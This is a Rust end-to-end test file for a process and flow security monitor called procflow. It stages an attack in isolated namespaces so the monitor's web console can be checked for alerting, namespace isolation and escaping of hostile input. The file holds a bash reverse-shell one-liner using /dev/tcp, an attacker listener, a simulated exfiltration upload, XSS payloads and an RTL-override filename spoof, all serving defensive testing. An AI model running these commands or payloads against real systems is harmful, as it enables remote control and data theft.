//! The web console against a real aggregator fed by a real collector: a "pod" (its own
//! network and pid namespaces) runs a reverse shell and an outbound transfer to an
//! "internet" namespace while Debian's chromium, driven by playwright-core
//! (tests/browser/console.mjs), signs in and follows the alert to the shell and its peer.
//! Screenshots of every page land in `$CARGO_TARGET_TMPDIR/console-screenshots/`.
//! And, in process over real HTTP: a viewer of another namespace sees none of it.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use procflow::aggregator::auth::{NamespaceScope, Principal, ReaderGrant, Role};
use procflow::aggregator::console::{self, auth::Credentials, Console, ConsoleConfig};
use procflow::aggregator::investigate::Investigator;
use procflow::aggregator::store::{Retention, SqliteStore, Store};
use procflow::aggregator::Hub;
use procflow::model::{
    AlertRecord, CollectorIdentity, Event, FlowPhase, ProcessPhase, ProcessRecord, Record, Severity,
};

use crate::util::{procflow_bin, Netns};

/// Installs chromium and playwright-core when missing (the project's own script).
fn browser_deps() {
    let root = env!("CARGO_MANIFEST_DIR");
    let status = Command::new(format!("{root}/scripts/browser-deps.sh"))
        .status()
        .expect("run scripts/browser-deps.sh");
    assert!(status.success(), "scripts/browser-deps.sh failed");
}

const PEER: &str = "203.0.113.2";
const SHELL_PORT: u16 = 4444;
const UPLOAD_PORT: u16 = 8443;
const POD: (&str, &str) = ("shop", "web-6d8f9c7b5-x2k4q");

struct Kill(Vec<std::process::Child>);

impl Drop for Kill {
    fn drop(&mut self) {
        for c in &mut self.0 {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

#[test]
fn an_analyst_follows_a_reverse_shell_from_its_alert_to_the_remote_endpoint_in_a_browser() {
    browser_deps();
    let ns = Netns::new("ui", &["pod", "cluster", "inet"]);
    ns.link(0, "10.212.0.2/24", 1, "10.212.0.1/24", "uic");
    ns.link(0, "203.0.113.1/24", 2, &format!("{PEER}/24"), "uii");
    let dir = tempfile::tempdir().expect("tempdir");
    // The pod's collector writes with its projected token; the analyst signs in with an
    // admin reader's token from the readers file.
    let issuer = crate::identity::Issuer::new();
    let token = dir.path().join("token");
    std::fs::write(&token, issuer.token(POD.0, POD.1, 600)).expect("token");
    let credential = dir.path().join("credential");
    std::fs::write(&credential, "console-e2e-credential").expect("credential");
    // And a viewer of another namespace, who must see none of it.
    let other = dir.path().join("other-credential");
    std::fs::write(&other, "console-e2e-other-namespace").expect("credential");
    let readers = issuer.readers(&format!(
        "{}  - name: bob\n    token_sha256: {}\n    role: viewer\n    namespaces: [other]\n",
        crate::identity::admin_readers("console-e2e-credential"),
        crate::identity::sha256_hex("console-e2e-other-namespace")
    ));
    let go = dir.path().join("go");
    let bin = procflow_bin();
    let mut kids = Kill(Vec::new());

    kids.0.push(
        Command::new("ip")
            .args(["netns", "exec", ns.name(1), bin, "aggregator"])
            .args([
                "--listen",
                "10.212.0.1:7410",
                "--ui-listen",
                "127.0.0.1:7480",
            ])
            .args([
                "--sa-token-issuer",
                crate::identity::ISSUER,
                "--readers",
                &readers,
            ])
            .arg("--sa-token-jwks")
            .arg(issuer.jwks())
            .arg("--data-dir")
            .arg(dir.path().join("data"))
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("aggregator"),
    );
    // The attacker: a shell listener that sends one command and holds the line, and a sink
    // for the upload that closes once it has it all.
    let attacker = format!(
        "import socket,threading,time\n\
         def shell():\n    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n    \
         s.bind(('{PEER}',{SHELL_PORT})); s.listen(); c,_=s.accept(); c.sendall(b'echo pwned\\n'); time.sleep(120)\n\
         def sink():\n    s=socket.socket(); s.setsockopt(socket.SOL_SOCKET,socket.SO_REUSEADDR,1)\n    \
         s.bind(('{PEER}',{UPLOAD_PORT})); s.listen(); c,_=s.accept()\n    \
         while c.recv(1<<16): pass\n    c.close(); time.sleep(120)\n\
         threading.Thread(target=shell,daemon=True).start(); threading.Thread(target=sink,daemon=True).start(); time.sleep(120)"
    );
    kids.0.push(
        Command::new("ip")
            .args([
                "netns",
                "exec",
                ns.name(2),
                "/usr/bin/python3",
                "-c",
                &attacker,
            ])
            .spawn()
            .expect("attacker"),
    );
    // The pod: pid 1 is a shell that starts the collector and a process with a hostile
    // command line, then, once the browser has the alerts page open, the attack.
    let upload = format!(
        "import socket,time\nc=socket.create_connection(('{PEER}',{UPLOAD_PORT}))\n\
         b=b'x'*65536\nfor _ in range(48): c.sendall(b)\nc.close(); time.sleep(120)"
    );
    let script = format!(
        "{bin} collector --output grpc --aggregator http://10.212.0.1:7410 --token-file {token} \
            --batch-interval 100ms >/dev/null 2>&1 & \
         sleep 1; \
         /usr/bin/python3 -c 'import time; time.sleep(120)' '<img src=x onerror=alert(1)>' \"$(printf '\\342\\200\\256')gpj.exe\" & \
         while [ ! -e {go} ]; do sleep 0.05; done; \
         bash -c 'bash -i >& /dev/tcp/{PEER}/{SHELL_PORT} 0>&1' & \
         /usr/bin/python3 -c \"{upload}\" & \
         wait",
        token = token.display(),
        go = go.display(),
    );
    kids.0.push(
        Command::new("ip")
            .args([
                "netns",
                "exec",
                ns.name(0),
                "unshare",
                "--pid",
                "--fork",
                "--kill-child",
            ])
            .args(["--mount-proc", "sh", "-c", &script])
            .env("POD_NAMESPACE", POD.0)
            .env("POD_NAME", POD.1)
            .env("POD_IP", "10.212.0.2")
            .stdout(Stdio::null())
            .spawn()
            .expect("pod"),
    );
    wait_for_port(ns.name(1), "127.0.0.1", 7480);

    let shots = Path::new(env!("CARGO_TARGET_TMPDIR")).join("console-screenshots");
    let _ = std::fs::remove_dir_all(&shots);
    let browser = Command::new("ip")
        .args(["netns", "exec", ns.name(1), "node"])
        .arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/browser/console.mjs"))
        .env("BASE", "http://127.0.0.1:7480")
        .env("CREDENTIAL_FILE", &credential)
        .env("OTHER_CREDENTIAL_FILE", &other)
        .env("SHOTS", &shots)
        .env("GO_FILE", &go)
        .env("PEER", PEER)
        .env("SHELL_PORT", SHELL_PORT.to_string())
        .env("UPLOAD_PORT", UPLOAD_PORT.to_string())
        .env("POD", format!("{}/{}", POD.0, POD.1))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("node");
    let out = wait_with_timeout(browser, Duration::from_secs(240));
    let stdout = String::from_utf8_lossy(&out.stdout);
    let summary: serde_json::Value = stdout
        .lines()
        .rev()
        .find_map(|l| serde_json::from_str(l).ok())
        .unwrap_or_else(|| {
            panic!(
                "no summary from the browser; stdout {stdout}, stderr {}",
                String::from_utf8_lossy(&out.stderr)
            )
        });
    eprintln!(
        "browser summary: {summary}; screenshots in {}",
        shots.display()
    );
    assert_eq!(
        summary["ok"], true,
        "browser run failed: {}",
        summary["error"]
    );
    assert!(out.status.success());
    for page in [
        "signin-refused",
        "alerts",
        "alert-group",
        "alert",
        "process",
        "process-shell",
        "endpoint",
        "overview",
        "overview-laptop",
        "overview-wide",
        "pod",
        "map",
        "rules",
        "search-hostile",
        "other-viewer-alerts",
        "other-viewer-alert",
    ] {
        let png = shots.join(format!("{page}.png"));
        let size = std::fs::metadata(&png).map(|m| m.len()).unwrap_or(0);
        assert!(
            size > 10_000,
            "screenshot {} missing or empty",
            png.display()
        );
    }
}

fn wait_for_port(netns: &str, host: &str, port: u16) {
    let deadline = Instant::now() + Duration::from_secs(20);
    while Instant::now() < deadline {
        let probe = Command::new("ip")
            .args(["netns", "exec", netns, "bash", "-c"])
            .arg(format!("exec 3<>/dev/tcp/{host}/{port}"))
            .stderr(Stdio::null())
            .status()
            .expect("probe");
        if probe.success() {
            return;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    panic!("nothing listens on {host}:{port} in {netns}");
}

fn wait_with_timeout(mut child: std::process::Child, limit: Duration) -> std::process::Output {
    let deadline = Instant::now() + limit;
    loop {
        if child.try_wait().expect("wait").is_some() {
            return child.wait_with_output().expect("output");
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let out = child.wait_with_output().expect("output");
            panic!(
                "the browser run took over {limit:?}: {}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            );
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

// === A viewer of another namespace, in process over real HTTP ===

fn source(ns: &str, pod: &str) -> Arc<CollectorIdentity> {
    Arc::new(CollectorIdentity {
        collector_id: format!("c-{pod}"),
        pod_name: pod.into(),
        pod_namespace: ns.into(),
        pod_ip: "10.0.0.5".into(),
        ..CollectorIdentity::default()
    })
}

fn shell_process(now: u64) -> ProcessRecord {
    let mut p: ProcessRecord = serde_json::from_value(serde_json::json!({
        "kind": "process", "pid": 4242, "start_time": now - 1_000, "ppid": 1,
        "parent_start_time": 1, "phase": "START", "comm": "bash", "exe": "/usr/bin/bash",
        "argv": ["bash", "-i", "secret-token-in-argv"], "cwd": null, "uid": 1000, "gid": 1000,
        "euid": 1000, "egid": 1000, "tty": null, "session_id": 1, "pgid": 1,
        "container_id": null, "pod_uid": null, "exit_time": null, "ancestors": [],
        "exe_unavailable": "UNSPECIFIED", "cwd_unavailable": "UNSPECIFIED", "exe_deleted": false,
        "seen_at_exit_only": false, "preexisting": false, "stdio_is_socket": true,
        "stdio_socket_inodes": []
    }))
    .unwrap_or_else(|e| panic!("process fixture: {e}"));
    p.phase = ProcessPhase::Start;
    p
}

/// GET over a real socket with the session cookie; returns (status, body).
fn get(addr: std::net::SocketAddr, path: &str, session: &str) -> (u16, String) {
    let mut s = TcpStream::connect(addr).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(30)))
        .expect("timeout");
    write!(
        s,
        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nCookie: procflow_session={session}\r\nConnection: close\r\n\r\n"
    )
    .expect("write");
    let mut raw = String::new();
    s.read_to_string(&mut raw).expect("read");
    let status = raw
        .split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0);
    (status, raw)
}

#[test]
fn a_viewer_of_another_namespace_sees_none_of_it() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = Arc::new(
        SqliteStore::open(
            dir.path(),
            Retention {
                max_age: Duration::from_secs(86_400),
                max_bytes: u64::MAX,
                rollups: procflow::aggregator::store::ROLLUP_RETENTION,
            },
        )
        .expect("store"),
    );
    let now = procflow::model::now_ns();
    let web = source("shop", "web-0");
    let mut flow: procflow::model::FlowRecord = serde_json::from_value(serde_json::json!({
        "kind": "flow", "cookie": "1", "protocol": "TCP", "family": "IPV4",
        "local_addr": "10.0.0.5", "local_port": 40000, "remote_addr": "198.51.100.77",
        "remote_port": 4444, "direction": "OUTBOUND", "scope": "NORTH_SOUTH", "phase": "START",
        "state": "ESTABLISHED", "preexisting": false, "bytes_sent": 5000, "bytes_received": 10,
        "segs_out": null, "segs_in": null, "retransmits": null, "total_retrans": null,
        "rtt_us": null, "first_seen": now - 500, "last_seen": now - 400, "ended_at": null,
        "uid": 1000, "inode": 9, "pid": 4242, "process_start_time": now - 1_000,
        "attribution": "FD", "end_reason": "UNSPECIFIED", "reset": false, "cgroup_id": null
    }))
    .unwrap_or_else(|e| panic!("flow fixture: {e}"));
    flow.phase = FlowPhase::Start;
    let process = shell_process(now);
    let alert = AlertRecord {
        id: "alert-in-shop".into(),
        rule_id: "PF-REVERSE-SHELL-STDIO".into(),
        rule_name: "Reverse shell (shell with a socket on stdio)".into(),
        severity: Severity::Critical,
        tags: Vec::new(),
        time: now,
        first_seen: now,
        last_seen: now,
        count: 1,
        output: "reverse shell in shop".into(),
        pod_name: "web-0".into(),
        pod_namespace: "shop".into(),
        node_name: String::new(),
        container_id: None,
        process: Some(Box::new(process.clone())),
        flows: vec![flow.clone()],
        evidence: Vec::new(),
        exec: None,
    };
    let events = vec![
        Event {
            source: web.clone(),
            received_at: now - 300,
            record: Record::Process(process),
        },
        Event {
            source: web.clone(),
            received_at: now - 300,
            record: Record::Flow(flow),
        },
    ];
    store
        .append("c-web-0".into(), 1, events)
        .blocking_recv()
        .expect("reply")
        .expect("stored");
    store
        .append(
            "procflow-rules".into(),
            1,
            vec![Event {
                source: web,
                received_at: now - 200,
                record: Record::Alert(alert),
            }],
        )
        .blocking_recv()
        .expect("reply")
        .expect("stored");

    // The API side of web-0: created by a user whose name is markup and whose agent carries a
    // right-to-left override, then exec'd into; and a change in another namespace.
    let api = |id: &str, ns: &str, name: &str, sub: Option<&str>, user: &str, agent: &str| {
        let mut object = serde_json::json!({"resource": "pods", "namespace": ns, "name": name, "apiVersion": "v1"});
        if let Some(sub) = sub {
            object["subresource"] = sub.into();
        }
        let line = serde_json::json!({
            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
            "auditID": id, "stage": "ResponseComplete", "verb": "create",
            "requestURI": format!("/api/v1/namespaces/{ns}/pods"),
            "user": {"username": user}, "sourceIPs": ["198.51.100.7"], "userAgent": agent,
            "objectRef": object, "responseStatus": {"metadata": {}, "code": 201},
            "requestReceivedTimestamp": procflow::audit::event::format_time(now - 900),
            "stageTimestamp": procflow::audit::event::format_time(now - 800),
        });
        procflow::audit::event::decode_event(
            line.to_string().as_bytes(),
            "prod",
            &mut Default::default(),
        )
        .unwrap_or_else(|e| panic!("audit fixture: {e}"))
    };
    let audit = procflow::audit::ingest::events_of(
        vec![
            api(
                "a-1",
                "shop",
                "web-0",
                None,
                "<script>alert(1)</script>@corp",
                "kubectl/v1.31 \u{202e}gpj.exe",
            ),
            api(
                "a-2",
                "shop",
                "web-0",
                Some("exec"),
                "api-exec-user@corp",
                "kubectl/v1.31",
            ),
            api(
                "a-3",
                "other",
                "web-0",
                None,
                "other-namespace-creator@corp",
                "kubectl/v1.31",
            ),
        ],
        now,
    );
    let appended = store
        .append_audit(audit)
        .blocking_recv()
        .expect("reply")
        .expect("stored");
    assert_eq!(appended.stored.len(), 3);

    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    let store: Arc<dyn Store> = store;
    let console = Arc::new(Console::new(
        Investigator::new(store),
        Arc::new(Hub::new(16)),
        None,
        ConsoleConfig {
            credentials: Credentials::bearer_token(Some("unused")),
            session_idle: Duration::from_secs(600),
            secure_cookies: false,
            default_baseline_hours: 24,
        },
    ));
    let reader = |name: &str, ns: &str| {
        Principal::reader(
            format!("reader:{name}"),
            ReaderGrant {
                role: Role::Viewer,
                namespaces: NamespaceScope::only([ns]),
            },
        )
    };
    let shop = console
        .start_session(reader("ana", "shop"))
        .expect("session");
    let other = console
        .start_session(reader("bob", "other"))
        .expect("session");
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let (addr, _task) = runtime
        .block_on(console::start(
            console,
            "127.0.0.1:0".parse().expect("addr"),
            async {
                let _ = stopped.await;
            },
        ))
        .expect("console");

    let pages = [
        "/?last=1h",
        "/alerts?last=1h",
        "/alerts/live?last=1h&after=0",
        "/alerts/group?last=1h&rule=PF-REVERSE-SHELL-STDIO&ns=shop&workload=web-0",
        "/alert?id=alert-in-shop&last=1h",
        "/pod?ns=shop&pod=web-0&last=1h",
        "/process?ns=shop&pod=web-0&pid=4242&last=1h",
        "/endpoint?ip=198.51.100.77&last=1h",
        "/map?last=1h",
        "/search?last=1h",
        "/search?last=1h&ns=shop",
        "/rules?last=1h",
    ];
    // What the shop viewer sees on each page, none of which the other viewer may.
    let secrets = [
        "secret-token-in-argv",
        "reverse shell in shop",
        "Reverse shell (shell",
        "198.51.100.77:4444",
        "shop/web-0</a>",
        "api-exec-user@corp",
        "&lt;script&gt;alert(1)",
    ];
    let mut seen_by_shop = 0;
    for page in pages {
        let (status, body) = get(addr, page, &shop);
        assert!(status == 200, "{page} for the shop viewer: {status}");
        seen_by_shop += secrets.iter().filter(|s| body.contains(*s)).count();
        let (status, body) = get(addr, page, &other);
        assert!(
            status == 200 || status == 404,
            "{page} for the other viewer: {status}"
        );
        for secret in secrets {
            if secret == "198.51.100.77:4444" && page.starts_with("/endpoint") {
                continue; // the address it asked for is echoed in the page title
            }
            assert!(
                !body.contains(secret),
                "{page} showed {secret:?} to a viewer of another namespace:\n{body}"
            );
        }
    }
    // The pod page shows who created it and exec'd into it, the hostile strings inert, and
    // nothing of the namespace the pod's name is repeated in.
    let (status, pod_page) = get(addr, "/pod?ns=shop&pod=web-0&last=1h", &shop);
    assert_eq!(status, 200);
    let api = pod_page
        .split("id=\"api-h\"")
        .nth(1)
        .and_then(|rest| rest.split("</section>").next())
        .unwrap_or_else(|| panic!("no API activity panel:\n{pod_page}"));
    assert!(
        api.contains("api-exec-user@corp") && api.contains("pods/exec"),
        "{api}"
    );
    assert!(
        api.contains("&lt;script&gt;alert(1)&lt;/script&gt;@corp"),
        "{api}"
    );
    assert!(
        !pod_page.contains("<script>alert"),
        "markup from a user name is inert"
    );
    assert!(
        !pod_page.contains('\u{202e}') && api.contains("\\u{202e}"),
        "the override is shown escaped, never applied: {api}"
    );
    assert!(!pod_page.contains("other-namespace-creator"), "{api}");
    assert!(
        seen_by_shop >= 8,
        "the shop viewer saw too little ({seen_by_shop}) for the check to mean anything"
    );
    // Without a session: the sign-in page, nothing else.
    let (status, body) = get(addr, "/alerts", "0".repeat(64).as_str());
    assert_eq!(status, 303, "{body}");
    assert!(body.contains("location: /signin?next=%2Falerts"), "{body}");
    let _ = stop.send(());
}
